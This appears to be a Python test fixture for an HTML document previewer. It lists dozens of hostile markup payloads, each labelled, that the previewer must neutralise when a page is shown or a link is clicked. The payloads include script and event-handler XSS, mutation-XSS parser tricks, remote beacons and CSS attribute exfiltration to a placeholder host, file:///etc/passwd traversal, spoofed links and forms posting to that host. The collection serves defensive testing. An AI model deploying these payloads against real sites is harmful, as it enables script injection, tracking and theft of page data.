"""What hostile pages try: by being shown, and by being clicked."""

MARK = "document.documentElement.dataset.ran = 1"
SENTINEL = "f" * 64

ATTACKS = {
    "script": f"<script>{MARK}</script>",
    "remote script": '<script src="REMOTE/x.js"></script>',
    "module script": f'<script type="module">{MARK}</script>',
    "image error handler": f'<img src="nwpreview://media/none.png" onerror="{MARK}">',
    "focus handler": f'<input autofocus onfocus="{MARK}">',
    "toggle handler": f'<details open ontoggle="{MARK}">x</details>',
    "animation handler": (
        f'<style>@keyframes a{{}}</style><p style="animation:a 1ms" onanimationstart="{MARK}">'
    ),
    "svg with script": f"<svg><script>{MARK}</script></svg>",
    "svg load handler": f'<svg onload="{MARK}"></svg>',
    "svg set to a script": f'<svg><a><set attributeName=href to="javascript:{MARK}"/></a></svg>',
    "mathml link": f'<math><mi xlink:href="javascript:{MARK}">x</mi></math>',
    "remote image": '<img src="REMOTE/beacon.png">',
    "remote picture set": '<img srcset="REMOTE/2x.png 2x" src="REMOTE/1x.png">',
    "remote picture source": '<picture><source srcset="REMOTE/p.webp"><img src="x"></picture>',
    "remote background": '<table background="REMOTE/b.png"><tr><td>x</td></tr></table>',
    "remote style sheet": '<link rel="stylesheet" href="REMOTE/x.css">',
    "imported style": '<style>@import url("REMOTE/i.css");</style>',
    "style that reads": "<style>p { background: url(REMOTE/css.png) }</style><p>x</p>",
    "style attribute": '<p style="background: url(REMOTE/attr.png)">x</p>',
    "remote font": (
        "<style>@font-face { font-family: q; src: url(REMOTE/f.ttf) } p { font: 9px q }</style>"
        "<p>x</p>"
    ),
    "preconnect": '<link rel="preconnect" href="REMOTE">',
    "prefetch": '<link rel="prefetch" href="REMOTE/p"><link rel="dns-prefetch" href="REMOTE">',
    "preload": '<link rel="preload" as="image" href="REMOTE/p.png">',
    "icon": '<link rel="icon" href="REMOTE/favicon.ico">',
    "manifest": '<link rel="manifest" href="REMOTE/manifest.json">',
    "video and audio": '<video src="REMOTE/v.mp4" autoplay></video><audio src="REMOTE/a.mp3">',
    "video poster": '<video poster="REMOTE/poster.png"></video>',
    "remote frame": '<iframe src="REMOTE/frame"></iframe>',
    "file in a frame": '<iframe src="file:///etc/hostname"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    "frame with a script address": f'<iframe src="javascript:parent.{MARK}"></iframe>',
    "object": '<object data="REMOTE/o"></object><embed src="REMOTE/e">',
    "file image": '<img src="file:///etc/hostname">',
    "refresh to the network": '<meta http-equiv="refresh" content="0;url=REMOTE/r">',
    "refresh to a file": '<meta http-equiv="refresh" content="0;url=file:///etc/hostname">',
    "refresh to data": (
        '<meta http-equiv="refresh" content="0;url=data:text/html,<script>1</script>">'
    ),
    "base": '<base href="REMOTE/"><img src="relative.png">',
    "other pictures": '<img src="nwpreview://media/../../etc/passwd"><img src="nwpreview://x/y">',
    "input image": '<input type="image" src="REMOTE/i.png">',
    "import map": '<script type="importmap">{"imports": {"x": "REMOTE/x.js"}}</script>',
    "style that reads letter by letter": (
        "<style>a[href^='h'] { background: url(REMOTE/h) } a[href^='ht'] { --x: url(REMOTE/ht);"
        " list-style: var(--x) }</style><a href='https://x.example'>x</a>"
    ),
    "malformed tag": f'<img src="nwpreview://media/x.png"" onerror="{MARK}" <b>',
    "malformed quotes": f"<img src='nwpreview://media/x.png' alt='\"' onerror='{MARK}'>",
    "unclosed tag": '<p>x</p><img src="REMOTE/unclosed.png" ',
    "unclosed comment": f"<!--><script>{MARK}</script>-->",
    "closed twice": f"</p></div></body></html><script>{MARK}</script>",
    "hidden in a table": f"<table><style><!--</style><img src=REMOTE/t.png onerror='{MARK}'>",
    "hidden in mathml": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--><img src=1 onerror={MARK}>">'
    ),
    "hidden in noscript": f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    "null in a name": f"<scr\0ipt>{MARK}</scr\0ipt><img src=x on\0error='{MARK}'>",
    "upper case": f"<SCRIPT>{MARK}</SCRIPT><IMG SRC=x OnErRoR='{MARK}'>",
    "speculation": (
        '<script type="speculationrules">{"prefetch":[{"urls":["REMOTE/s"]}]}</script>'
    ),
}

CLICKS = {
    "script link": f'<a id="target" href="javascript:{MARK}">x</a>',
    "data link": '<a id="target" href="data:text/html,<script>1</script>">x</a>',
    "file link": '<a id="target" href="file:///etc/hostname">x</a>',
    "link to a new window": '<a id="target" target="_blank" href="REMOTE/new">x</a>',
    "pinging link": '<a id="target" href="#x" ping="REMOTE/ping">x</a>',
    "download": '<a id="target" download href="nwpreview://doc/page.css">x</a>',
    "link turned round": '<a id="target" href="REMOTE/\u202egpj.exe">\u202egpj.exe</a>',
    "link with a name for another": '<a id="target" href="REMOTE@bank.example/">x</a>',
    "script link, spelt out": (f'<a id="target" href="&#106;ava&#x09;script&colon;{MARK}">x</a>'),
    "link under a base": '<base href="REMOTE/"><a id="target" href="relative">x</a>',
    "link in place": '<a id="target" href="REMOTE/there">x</a>',
    "form": '<form action="REMOTE/f"><button id="target">x</button></form>',
    "posting form": (
        '<form method="post" action="REMOTE/p"><input name="a" value="b">'
        '<button id="target">x</button></form>'
    ),
    "form that runs": f'<form action="javascript:{MARK}"><button id="target">x</button></form>',
}
